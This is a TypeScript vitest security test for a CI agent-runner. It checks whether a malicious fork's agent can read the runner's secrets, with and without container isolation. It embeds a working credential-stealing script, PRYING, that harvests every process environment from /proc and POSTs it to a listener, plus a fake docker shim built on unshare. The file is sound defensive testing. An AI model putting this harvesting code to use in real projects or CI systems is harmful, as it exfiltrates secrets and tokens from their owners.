/** What an approved agent of a fork can read of our process: as docs/forks.md says, by itself and in a container. */
import { spawnSync } from 'node:child_process';
import { chmodSync, writeFileSync } from 'node:fs';
import { delimiter, dirname, join } from 'node:path';
import { afterAll, afterEach, beforeAll, expect, it } from 'vitest';
import { type AgentServer, startAgentServer } from '../../support/agent-server.ts';
import { begin, commit, git } from '../../support/git-repository.ts';
import { addCommit, addRepository, type Repository } from '../../support/github-server.ts';
import { temporaryFolder } from '../../support/temporary-folders.ts';
import { checkOut, openStage, SECRET, type Stage, type Suite } from './stage.ts';

let stage: Stage;
let listener: AgentServer;
let fork: Repository;

/** Sends the environments of all processes that it finds before it answers anything. */
const PRYING = `import { readdirSync, readFileSync } from 'node:fs';
import { createServer } from 'node:http';
const read = (id) => { try { return readFileSync('/proc/' + id + '/environ', 'latin1'); } catch { return ''; } };
const found = readdirSync('/proc').filter((name) => /^\\d+$/.test(name)).map(read).join('\\n');
await fetch('LISTENER/found', { method: 'POST', body: 'found:' + found });
process.on('SIGTERM', () => process.exit());
createServer((request, response) => {
  request.resume().on('end', () => response.end(JSON.stringify({ reply: 'Here is the advice.' })));
}).listen(Number(process.env.PORT), '127.0.0.1');
`;

/** Keeps from the agent what docker keeps from it of other processes; it sees the files and the network of this machine. */
const DOCKER = `#!/bin/sh
while [ "$1" != node:24 ]; do
  case "$1" in -p) port="\${2%%:*}" ;; -v) folder="\${2%%:*}" ;; esac
  shift
done
shift
cd "$folder" && exec unshare --user --map-root-user --pid --fork --kill-child --mount-proc env -i PATH="$PATH" PORT="$port" "$@"
`;
const canContain = spawnSync('unshare', ['--user', '--map-root-user', '--pid', '--fork', '--mount-proc', 'true']);

beforeAll(async () => {
  [stage, listener] = await Promise.all([openStage(), startAgentServer({ body: {} })]);
  const { state, repository } = stage.github.server;
  fork = addRepository(state, { fullName: 'mallory/shop-assistant', parent: repository });
});
afterAll(() => Promise.all([stage?.stop(), listener?.close()]));
afterEach(() => expect(stage.github.server.violations).toEqual([]));

/** What the agent of a fork has found in a second stage that starts it by this command. */
async function foundBy(name: string, command: string, env: Readonly<Record<string, string>> = {}): Promise<string> {
  const suite: Suite = {
    name,
    agent: `
  type: http
  url: http://127.0.0.1:{{ port }}/chat
  request: { message: "{{ input }}" }
  response: { text: reply }
  start: { command: '${command}', ready: "http://127.0.0.1:{{ port }}/", env: { PORT: "{{ port }}" } }`,
    more: `criteria: { friendly: The reply is friendly. }
llm: { judge: { model: m, base_url: "http://127.0.0.1:9", api_key: "\${AGENT_KEY}" } }
security: { allowed_hosts: [127.0.0.1] }`,
    extraFiles: { 'agent.mjs': '' },
  };
  const folder = checkOut(suite);
  const base = begin(folder);
  git(folder, 'checkout', '-q', '-B', 'theirs', base);
  const sha = commit(folder, { 'agent.mjs': PRYING.replace('LISTENER', listener.url) });
  git(folder, 'checkout', '-q', '--detach', base);
  addCommit(stage.github.server.state, { sha, parents: [fork.refs.get('heads/main')!], message: 'Pry' });
  fork.refs.set(`heads/${name}`, sha);
  const pull = stage.openPull({ branch: name, fork });
  const { run } = stage.github.newRun({ event: 'pull_request', pull });
  const job = stage.github.newRun({ event: 'workflow_run', of: run });
  const event = { ...job.event, env: { ...job.event.env, GITHUB_SHA: base } };
  const before = listener.asked.length;
  const { outcome, log } = await stage.run({ ...job, event }, suite, { workspace: folder, env });
  expect(outcome.run.cases.selected, log).toBeGreaterThan(0);
  return listener.asked
    .slice(before)
    .map(({ body }) => body)
    .join('\n');
}

it.runIf(process.platform === 'linux')('by itself it can read the environment of our process', async () => {
  expect(await foundBy('prying', 'node agent.mjs')).toContain(SECRET);
});

it.runIf(canContain.status === 0)('in a container as in docs/forks.md it finds itself only', async () => {
  const programs = temporaryFolder('programs-');
  writeFileSync(join(programs, 'docker'), DOCKER);
  chmodSync(join(programs, 'docker'), 0o755);
  const PATH = [programs, dirname(process.execPath), process.env.PATH].join(delimiter);
  const recipe = 'docker run --rm --init -p {{ port }}:8000 -v "$PWD":/app:ro -w /app node:24 node agent.mjs';
  const found = await foundBy('contained', recipe, { PATH });
  expect(found).toContain('found:');
  expect(found).toContain('PORT=');
  expect(found).not.toContain(SECRET);
});
